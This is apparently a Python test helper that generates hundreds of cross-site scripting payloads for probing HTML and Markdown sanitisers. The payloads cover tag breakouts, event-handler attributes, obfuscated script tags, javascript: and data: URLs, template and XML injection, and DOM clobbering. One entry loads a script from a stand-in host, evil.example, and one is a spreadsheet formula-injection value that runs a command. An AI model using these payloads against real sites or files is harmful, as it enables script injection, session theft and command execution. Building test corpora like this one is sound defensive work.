"""Texts that try to run as scripts, by the hundred, composed of ways to get out of a context and ways to run something in the next."""

from collections.abc import Iterator
from itertools import cycle

RUN = "ran(1)"
"""What runs where one gets through; the tests listen for it."""

_TAGS = [
    *(
        "img src=x onerror",
        "svg onload",
        "body onload",
        "video src=x onerror",
        "audio src=x onerror",
        "video><source onerror",
        "iframe onload",
    ),
    *(
        "input autofocus onfocus",
        "select autofocus onfocus",
        "textarea autofocus onfocus",
        "button autofocus onfocus",
        "details open ontoggle",
    ),
    *("a href=# tabindex=1 autofocus onfocus", "marquee onstart", "object data=x onerror", "embed src=x onload", "style onload"),
    *(
        "link rel=stylesheet href=x onerror",
        "script src=x onerror",
        "svg><animate attributeName=x dur=1s onbegin",
        "svg><image href=x onerror",
    ),
    *(
        "svg><set attributeName=x onbegin",
        "math><mi tabindex=1 autofocus onfocus",
        "div style=animation:x onanimationstart",
        "p onmouseover",
    ),
    *(
        "form onsubmit",
        "xss contenteditable autofocus onfocus",
        "frameset onload",
        "image src=x onerror",
        "isindex type=image src=1 onerror",
    ),
    *(
        "img srcset=x onerror",
        "picture><source srcset=x><img onerror",
        "dialog open onclose",
        "track src=x onerror",
        "meter onpointerenter",
    ),
]
_WAYS_OUT = [
    *("", '">', "'>", "</script>", "</title>", "</textarea>", "</style>", "-->", "--!>", "]]>", "</noscript>", "</template>", "</svg>"),
    *("</math>", "`>", "&quot;>", "&#34;>", '\\">', "%22>", "?>", "*/", "</summary></content>", "</description></item>", "</p>", "</a>"),
    *('"/>', "\u2028", "</select>", "</iframe>", "<!--", "<![CDATA[", "\\u003c/script>", "</h1></main>", "<b ", "</time>", "\n\n"),
]
_FORMS = ["<{0}={1}>", "<{0}='{1}'>", '<{0}="{1}">', "<{0}=`{1}`>", "<{0} = {1} >", "<{0}={1} ", "<{0}={1}//", "<{0}=&#114;an(1)>"]
_EVENTS = [
    "onmouseover",
    "onfocus autofocus tabindex=1 onblur",
    "onclick",
    "onload",
    "onerror",
    "onpointerenter",
    "ontoggle",
    "onanimationend",
]
_SCRIPTS = [
    *("<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<ScRiPt >{0}</sCrIpT >", "<script\n>{0}</script\n>", "<script/x>{0}</script>"),
    *("<scr<script>ipt>{0}</scr</script>ipt>", "<<script>{0}//<</script>", "<script>{0}", "<script>/*</script>*/{0}</script>"),
    *("<script src=data:,{0}></script>", "<script type=module>{0}</script>", "<script type='text/javascript'>{0}</script>"),
    *(
        "<script>\\u0072an(1)</script>",
        "<script>window['ran'](1)</script>",
        "<svg><script>{0}</script></svg>",
        "<math><script>{0}</script>",
    ),
    *(
        "<svg><script href=data:,{0} />",
        "&lt;script&gt;{0}&lt;/script&gt;",
        "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
        "%3Cscript%3E{0}%3C/script%3E",
    ),
    *(
        "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
        "<script>{0}<!--",
        "<!--<script>-->{0}</script>",
        "<noscript><p title='</noscript><script>{0}</script>'>",
    ),
    *(
        "<style><img title='</style><script>{0}</script>'>",
        "<textarea><p title='</textarea><script>{0}</script>'>",
        "<?php ?><script>{0}</script>",
    ),
    *(
        "<xmp><p title='</xmp><script>{0}</script>'>",
        "<template><script>{0}</script></template>",
        "＜script＞{0}＜/script＞",
        "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    ),
]
_URLS = [
    *(
        "javascript:{0}",
        "JaVaScRiPt:{0}",
        " javascript:{0}",
        "java\tscript:{0}",
        "java&#10;script:{0}",
        "java&Tab;script:{0}",
        "&#106;avascript:{0}",
    ),
    *("javascript&colon;{0}", "javascript:/*x*/{0}", "javascript://x%0a{0}", "javascript:{0}//https://a.example/", "&#x6A;avascript:{0}"),
    *(
        "data:text/html,<script>{0}</script>",
        "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
        "data:image/svg+xml,<svg onload={0}>",
    ),
    *("vbscript:{0}", "livescript:{0}", "view-source:javascript:{0}", "feed:javascript:{0}", "jar:javascript:{0}", "//evil.example/ran.js"),
    *(
        'https://a.example/" onclick="{0}',
        "https://a.example/' onclick='{0}",
        "https://a.example/><script>{0}</script>",
        'mailto:a@b.example?"onclick={0}',
    ),
    *(
        "javascript\\:{0}",
        "javascript:%72an(1)",
        "\\javascript:{0}",
        "./javascript:{0}",
        '#"><script>{0}</script>',
        "blob:https://a.example/{0}",
    ),
]
_LINKS = [
    "[x]({0})",
    "![x]({0})",
    "<{0}>",
    "[x](<{0}>)",
    "[x][y]\n\n[y]: {0}",
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    '<iframe src="{0}">',
    "{0}",
]
_WHOLE = [
    *(
        '"}}</script><script>{0}</script>',
        '"];{0};//',
        '\\"}}];{0}//',
        "';{0};'",
        '";{0};"',
        "`;{0};`",
        "${{{0}}}",
        "{{{{ ran(1) }}}}",
        "{{% raw %}}<script>{0}</script>",
    ),
    *(
        "#{{{0}}}",
        "<%= {0} %>",
        "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{0}</x:script>",
        "<?xml-stylesheet href='javascript:{0}'?>",
    ),
    *(
        "<!DOCTYPE x [<!ENTITY y '<script>{0}</script>'>]>&y;",
        "<x xmlns='http://www.w3.org/1999/xhtml'><script>{0}</script></x>",
        "<base href=javascript:{0}//>",
    ),
    *(
        '=HYPERLINK("javascript:{0}")',
        "@SUM({0})",
        "+cmd|' /C calc'!A0",
        "-1+{0}",
        "\t={0}",
        "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    ),
    *(
        "<form action=javascript:{0}><button autofocus>x",
        "<iframe srcdoc='<script>{0}</script>'>",
        "<object data=javascript:{0}>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload={0}>#x'>",
    ),
    *(
        "<svg><a href=javascript:{0}><text y=9>x",
        "<math href=javascript:{0}>x",
        "<div style=\"background:url('javascript:{0}')\">",
        "<style>@import 'javascript:{0}'</style>",
    ),
    *(
        "<img src=x name=getElementById>",
        "<form id=body><input name=firstChild>",
        "<a id=run><a id=run name=url href=javascript:{0}>",
        "<link rel=import href=data:text/html,{0}>",
    ),
    *(
        "<svg><style><img src=x onerror={0}>",
        "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
        "<svg></p><style><a id='</style><img src=1 onerror={0}>'>",
    ),
    *(
        "<table background=javascript:{0}>",
        "<input type=image src=x formaction=javascript:{0}>",
        "<img usemap=#x><map name=x><area href=javascript:{0}>",
        "<b/onclick={0}>x</b>",
    ),
    *(
        "> <img src=x onerror={0}>",
        "- <svg onload={0}>",
        "# <svg onload={0}>",
        "`<svg onload={0}>`",
        "    <svg onload={0}>",
        "| <svg onload={0}> |\n|---|\n| <svg onload={0}> |",
    ),
    *(
        "[^1]\n\n[^1]: <svg onload={0}>",
        "> [!NOTE]\n> <svg onload={0}>",
        "[[<svg onload={0}>]]",
        "[[x|<svg onload={0}>]]",
        "```<svg onload={0}>\nx\n```",
        "## x {{#y onclick={0}}}",
    ),
    *(
        "~~<svg onload={0}>~~",
        "![<svg onload={0}>](x.png \"' onerror='{0}\")",
        "[x](y \"' onclick='{0}\")",
        "term\n: <svg onload={0}>",
        "<https://a.example/?<svg onload={0}>>",
    ),
]


def payloads() -> list[str]:
    """All of them, each once, in one order."""
    return list(dict.fromkeys(text for part in (_broken_out(), _in_attributes(), _scripts(), _addresses(), _wholes()) for text in part))


def _broken_out() -> Iterator[str]:
    ways, forms = cycle(_WAYS_OUT), cycle(_FORMS)
    for _ in range(7):
        for tag in _TAGS:
            yield next(ways) + next(forms).format(tag, RUN)
        next(forms)  # so that each round pairs them otherwise


def _in_attributes() -> Iterator[str]:
    for event in _EVENTS:
        for quote in ('"', "'", "`", "&quot;", "&#39;", '\\"'):
            yield f"{quote} {event}={quote}{RUN}{quote} x={quote}"


def _scripts() -> Iterator[str]:
    ways = cycle(_WAYS_OUT[3:])
    for script in _SCRIPTS:
        yield script.format(RUN)
        yield next(ways) + script.format(RUN)


def _addresses() -> Iterator[str]:
    links = cycle(_LINKS)
    for url in _URLS:
        yield url.format(RUN)
        for _ in range(3):
            yield next(links).format(url.format(RUN))


def _wholes() -> Iterator[str]:
    return (text.format(RUN) for text in _WHOLE)
